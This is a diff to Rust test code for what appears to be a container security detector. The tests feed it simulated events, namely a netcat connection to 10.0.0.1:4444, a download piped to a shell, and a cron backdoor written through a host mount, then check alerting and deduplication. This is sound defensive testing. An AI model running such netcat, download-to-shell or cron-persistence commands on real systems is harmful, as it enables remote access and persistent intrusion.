@@ -473,7 +473,8 @@ fn download_piped_to_a_shell_inline_code_and_netcat() {
         "bash started beside curl under the same parent: a download fed to a shell"
     );
     let nc = ev.exec(Some(&at), "n1", "", "/bin/nc", &["nc", "10.0.0.1", "4444"]);
-    let out = e.observe(&[nc]);
+    let nc_again = ev.exec(Some(&at), "n2", "", "/bin/nc", &["nc", "10.0.0.1", "4444"]);
+    let out = e.observe(&[nc, nc_again]);
     assert_eq!(summary(&out), [("JW006".to_string(), "high")]);
     assert_eq!(out.alerts[0].details["kind"], "netcat");
 }
@@ -506,6 +507,14 @@ fn persistence_through_a_host_mount_and_inside_the_container() {
         "/host/etc/cron.d/backdoor",
     );
     let data = ev.file(Some(&at), "x", pb::FileOperation::Create, "/host/data/out");
+    // More writes through the same mount, and the same cron file again: no more alerts.
+    let data2 = ev.file(Some(&at), "x", pb::FileOperation::Create, "/host/data/out2");
+    let cron2 = ev.file(
+        Some(&at),
+        "x",
+        pb::FileOperation::Rename,
+        "/host/etc/cron.d/backdoor",
+    );
     let inside = ev.file(
         Some(&at),
         "x",
@@ -513,7 +522,7 @@ fn persistence_through_a_host_mount_and_inside_the_container() {
         "/etc/cron.d/local",
     );
     let tmp = ev.file(Some(&at), "x", pb::FileOperation::Create, "/tmp/scratch");
-    let out = e.observe(&[c, cron, data, inside, tmp]);
+    let out = e.observe(&[c, cron, data, inside, tmp, data2, cron2]);
     let p: Vec<_> = out
         .alerts
         .iter()
